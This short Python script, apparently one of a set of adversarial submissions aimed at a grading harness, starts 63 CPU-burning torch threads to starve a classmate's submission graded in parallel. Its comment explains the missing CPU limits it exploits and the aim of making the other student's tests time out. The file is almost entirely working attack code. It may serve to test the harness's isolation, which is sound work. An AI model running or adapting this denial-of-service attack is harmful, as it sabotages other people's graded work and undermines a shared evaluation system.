# a02: spoil a classmate in `batch --jobs 2` with CPU, not memory or threads: the thread cap lets a
# child run 63 threads beside its main one, and nothing bounds their CPU share (no RLIMIT_CPU, no
# nice, no cgroup). Each thread runs torch matrix products, which release the GIL, so all 63 are
# runnable at once on the machine's cores; the classmate graded beside it gets ~1/30 of a core,
# its wall-clock deadlines pass, its tests time out and its tier is "not timed".
import threading
import time

import torch

def _burn():
    a = torch.randn(192, 192)
    while True:
        a = torch.tanh(a @ a)

for _ in range(63):
    try:
        threading.Thread(target=_burn, daemon=True).start()
    except RuntimeError:
        break
time.sleep(10 ** 6)  # hold the child (and its 63 burners) until the grader's deadline kills it
